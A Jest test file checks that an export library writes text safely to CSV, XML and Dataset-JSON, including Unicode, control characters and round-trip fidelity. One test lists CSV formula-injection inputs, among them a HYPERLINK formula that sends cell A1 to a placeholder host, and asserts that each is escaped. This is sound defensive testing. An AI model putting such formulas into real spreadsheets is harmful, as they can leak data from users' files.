import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { XmlDocument, XmlElement } from 'libxml2-wasm';
import { datasetJson } from '../../../src/exports/dataset-json/document.js';
import { element, xmlText } from '../../../src/exports/odm/xml.js';
import { csvFile } from '../../../src/exports/table/csv.js';
import { type Cell, tableOf } from '../../../src/exports/table/table.js';
import { instant } from '../../../src/domain/calendar/instant.js';

const tableWith = (...cells: readonly Cell[]) =>
  tableOf('DV', 'Texts', [{ name: 'TEXT', label: 'Text', type: 'string', of: (cell: Cell) => cell }], cells);

const readBack = (...cells: readonly Cell[]): readonly string[] =>
  parse(csvFile(tableWith(...cells)).text, { from_line: 2 }).map(([one = '']) => one);

const awkward: readonly string[] = [
  'a, b and "c"',
  'two\nlines',
  'two\r\nlines, in the words of DOS',
  '微血管侵犯，M2；“切缘”',
  '𠮷 beyond the first plane',
  ' spaces at the ends ',
  '5 < 6 && 7 > 6',
  ']]>',
  'naïve – dash … ellipsis',
  '#N/A',
  'NULL',
];

describe('a text in CSV', () => {
  it.each(awkward)('reads back equal: %j', (text) => {
    expect(readBack(text, 'next')).toEqual([text, 'next']);
  });

  it.each([
    '=HYPERLINK("http://x.invalid?"&A1,"see")',
    ...['+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1'],
    ...['＝1+1', '＋1+1', '－2+3', '＠SUM(A1)'],
  ])('is no formula for a spreadsheet: %j', (text) => {
    expect(readBack(text)).toEqual([`'${text}`]);
  });

  it('is told from a number: −5 days stay −5 days', () => {
    expect(csvFile(tableWith(-5, '-5')).text).toBe("TEXT\r\n-5\r\n'-5\r\n");
  });

  it('begins with its header, without a byte-order mark, and ends every line with CRLF', () => {
    const { text } = csvFile(tableWith('甲', '乙'));
    expect(text).toBe('TEXT\r\n甲\r\n乙\r\n');
  });
});

const xmlOf = (text: string): string => xmlText(element('Value', { note: text }, text));
const readXml = (xml: string): readonly (string | undefined)[] => {
  using document = XmlDocument.fromString(xml);
  const root = document.root;
  if (!(root instanceof XmlElement)) throw new Error('no element');
  return [root.content, root.attr('note')?.value];
};

describe('a text in XML', () => {
  it.each(awkward)('reads back equal as content and as attribute: %j', (text) => {
    expect(readXml(xmlOf(text))).toEqual([text, text]);
  });

  it('never makes a document that cannot be read, whatever it holds', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', minLength: 1 }), (text) => {
        const [content] = readXml(xmlOf(text));
        expect(content?.length).toBe(text.length);
      }),
    );
    expect(readXml(xmlOf('a\u0000b\u001fc\ufffe'))[0]).toBe('a\ufffdb\ufffdc\ufffd');
  });
});

describe('a text in Dataset-JSON', () => {
  it('has the length of its characters, whatever plane they are of', () => {
    const made = datasetJson(tableWith('𠮷𠮷', '甲'), {
      madeAt: instant('2028-02-29T00:00:00.000Z'),
      protocolVersion: '1.0.0',
      programVersion: '0.1.0',
    });
    expect(made.columns[0]?.length).toBe(2);
    expect(JSON.parse(JSON.stringify(made))).toEqual(made);
  });
});
